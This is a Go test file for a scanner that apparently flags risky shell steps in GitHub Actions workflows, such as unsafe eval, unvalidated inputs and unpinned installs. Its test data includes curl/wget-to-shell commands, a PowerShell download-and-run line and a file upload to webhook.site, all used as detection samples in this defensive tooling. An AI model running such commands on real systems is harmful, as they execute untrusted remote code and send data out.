package script

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestLines(t *testing.T) {
	text := "a \\\n  b\n# c\n\n  d # e\nf \\"
	want := []Line{{"a  b", 0, 7}, {"d # e", 15, 5}, {"f \\", 21, 3}}
	if diff := cmp.Diff(want, SplitLines(text)); diff != "" {
		t.Errorf("lines (-want +got):\n%s", diff)
	}
	for _, l := range SplitLines(text) {
		if l.Offset+l.Length > len(text) {
			t.Errorf("%+v is outside of the text", l)
		}
	}
}

func TestWrites(t *testing.T) {
	type write struct{ Name, Value string }
	for text, want := range map[string][]write{
		`echo "x=$A" >> $GITHUB_OUTPUT`:                               {{"x", "$A"}},
		`echo 'x=a' | tee -a "${GITHUB_OUTPUT}"`:                      {{"x", "a"}},
		`"x=$env:A" >> $env:GITHUB_OUTPUT`:                            {{"x", "$env:A"}},
		`echo "x=1" | Out-File -FilePath $Env:GITHUB_OUTPUT`:          {{"x", "1"}},
		`echo "::set-output name=x::$A"`:                              {{"x", `$A"`}},
		"{\n echo \"x<<EOF\"\n cat f\n echo EOF\n} >> $GITHUB_OUTPUT": {{"x", "$(cat f)"}},
		"cat <<EOF >> $GITHUB_OUTPUT\nx=$A\ny=b\nEOF":                 {{"x", "$A"}, {"y", "b"}},
		`./make >> $GITHUB_OUTPUT`:                                    {{"", "./make"}},
		`echo "x=$A"`:                                                 nil,
		`echo "x=$A" >> $GITHUB_ENV`:                                  nil,
	} {
		var got []write
		for _, w := range ParseWrites(text, "GITHUB_OUTPUT") {
			got = append(got, write{w.Name, w.Value})
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", text, diff)
		}
	}
}

func TestEvaluated(t *testing.T) {
	for line, want := range map[string][]string{
		`eval "echo $A ${B}"`: {"A", "B"}, `bash -c "x $A"`: {"A"}, `bash -c 'x $A'`: nil, `echo "$A"`: nil,
		`ssh host "run $A"`:        {"A"},
		`python3 -c "print('$A')"`: {"A"}, `iex $env:A`: {"A"}, `bash script.sh $A`: nil,
	} {
		if diff := cmp.Diff(want, EvaluatedVariables(line)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", line, diff)
		}
	}
}

func TestFetched(t *testing.T) {
	for line, want := range map[string]bool{
		"curl -sSL https://x.example/i.sh | sudo -E bash -": true, "bash <(curl -s https://x.example)": true,
		"wget -qO- https://x.example | sh":                   true,
		"iex (New-Object Net.WebClient).DownloadString('x')": true, "curl https://x.example -o f": false,
		"curl https://x.example | jq .": false, "curl https://x.example/k | apt-key add -": false,
	} {
		if got := RunsRemoteScript(line); got != want {
			t.Errorf("%s: got %v", line, got)
		}
	}
}

func TestAdHoc(t *testing.T) {
	for line, want := range map[string]string{
		"npm ci": "", "npm install": "", "npm i -g left-pad": "npm i -g left-pad", "npm install ./local": "",
		"yarn add x": "yarn add x", "yarn": "",
		"pnpm --filter a install": "", "gem install rake": "gem install rake", "bundle install": "",
		"bundle add x": "bundle add x", "npx cowsay hi": "npx cowsay hi",
		"npm update": "npm update", "cd a && npm install b@1": "npm install b@1",
	} {
		if got := UnlockedInstall(line); got != want {
			t.Errorf("%s: got %q, want %q", line, got, want)
		}
	}
}

func TestLogs(t *testing.T) {
	if !EnablesTracing("set -eux") || !EnablesTracing("bash -x a.sh") || EnablesTracing("set -eu") ||
		EnablesTracing("echo -x") {
		t.Error("traced")
	}
	if !PrintsEnvironment("env") || !PrintsEnvironment("printenv | sort") || PrintsEnvironment("env A=b make") ||
		PrintsEnvironment("setup") {
		t.Error("listed")
	}
	if RequestCollector("curl -d @x https://webhook.site/1") != "webhook.site" ||
		RequestCollector("curl https://example.com/webhook") != "" {
		t.Error("collector")
	}
}

func FuzzScript(f *testing.F) {
	f.Add("{\necho \"a<<EOF\"\nX=$Y \\\n} >> $GITHUB_OUTPUT\neval $X\n")
	f.Fuzz(func(t *testing.T, text string) {
		for _, l := range SplitLines(text) {
			if l.Offset < 0 || l.Offset+l.Length > len(text) {
				t.Errorf("%+v is outside of %q", l, text)
			}
			EvaluatedVariables(l.Text)
			UnlockedInstall(l.Text)
			RunsRemoteScript(l.Text)
		}
		for _, w := range ParseWrites(text, "GITHUB_ENV") {
			if w.Offset < 0 || w.Offset > len(text) {
				t.Errorf("%+v is outside of %q", w, text)
			}
		}
		ParseAssignments(text)
		ParseReads(text)
		ValidatedVariables(text)
		JQPath(text)
	})
}

func TestReads(t *testing.T) {
	type read struct {
		What string
		Line bool
	}
	for text, want := range map[string][]read{
		`$(gh pr view $N --json title --jq .title)`: {{"github.event.pull_request.title", false}},
		`$(gh pr view $N --json headRefOid -q '.headRefOid')`: {{"github.event.pull_request.head.sha",
			false}},
		`$(gh issue view $N --json title,body)`: {{"github.event.issue", false}},
		`$(gh api /repos/o/r/pulls/$N/files --jq '.[].filename')`: {{"github.event.pull_request.filename",
			false}},
		`$(jq -r .pull_request.title "$GITHUB_EVENT_PATH")`: {{"github.event.pull_request.title", false}},
		`$(git log -1 --format=%s)`:                         {{"git.message", false}},
		`$(git diff --name-only HEAD^)`:                     {{"git.files", false}},
		`$(cat pr/number.txt)`:                              {{"file", false}},
		`$(<pr/number)`:                                     {{"file", false}},
		`$(head -n 1 a.txt)`:                                {{"file", true}},
		`$(echo "$A" | cut -d / -f 2)`:                      nil,
		`$(echo "$A" | grep -oE '[0-9]+')`:                  nil,
		`$(date +%s)`:                                       nil,
		`$(curl -s https://api.github.com/repos/o/r/issues/1/comments)`: {{"github.event.comment", false}},
	} {
		var got []read
		for _, r := range ParseReads(text) {
			if r.File != "" {
				r.Context = "file"
			}
			got = append(got, read{r.Context, r.OneLine})
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", text, diff)
		}
	}
}

func TestChecked(t *testing.T) {
	for text, want := range map[string]bool{
		`if [[ "$N" =~ ^[0-9]+$ ]]; then`:         true,
		`[[ $N =~ ^v[0-9]+\.[0-9]+$ ]] || exit 1`: true,
		`echo "$N" | grep -Eq '^[a-f0-9]{40}$'`:   true,
		`[[ $N =~ ^.*$ ]]`:                        false,
		`[[ $N =~ ^[^a]+$ ]]`:                     false,
		`[[ $N =~ [0-9]+ ]]`:                      false,
		`[[ -n $N ]]`:                             false,
	} {
		if got := ValidatedVariables(text)["N"]; got != want {
			t.Errorf("%s: got %v", text, got)
		}
	}
}

func TestQuery(t *testing.T) {
	for text, want := range map[string]string{`jq -r '.head.ref'`: "head.ref", `gh api x --jq '.[0].title'`: "*.title",
		`jq .`: "", `jq '.a["b"]'`: "a.*"} {
		if got, _ := JQPath(text); got != want {
			t.Errorf("%s: got %q, want %q", text, got, want)
		}
	}
	if _, ok := JQPath("echo a"); ok {
		t.Error("a text without jq has a query")
	}
}
